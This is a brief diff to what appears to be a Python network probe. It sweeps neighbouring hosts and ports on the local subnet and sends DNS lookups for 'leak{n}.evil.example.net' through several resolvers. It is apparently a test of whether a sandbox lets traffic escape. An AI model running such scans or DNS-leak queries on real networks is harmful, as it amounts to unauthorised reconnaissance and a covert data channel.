@@ -51,7 +51,7 @@ own = socket.gethostbyname(socket.gethostname())
 around = [str(address) for address in slice_ if str(address) != own]
 targets = [(host, port) for host in around for port in PORTS]
 targets += [(host, port) for host, port in json.loads(sys.argv[1])]
-servers = [PROXY, "127.0.0.1", "127.0.0.11", around[1], "192.0.2.53", "172.30.242.53"]
+servers = [PROXY, "127.0.0.1", "127.0.0.11", around[1], "192.0.2.53", "10.199.242.53"]
 with concurrent.futures.ThreadPoolExecutor(48) as pool:
     reached = [target for target, ok in zip(targets, pool.map(reaches, targets)) if ok]
     answers = pool.map(lambda at: ask(servers[at], f"leak{at}.evil.example.net"), range(len(servers)))
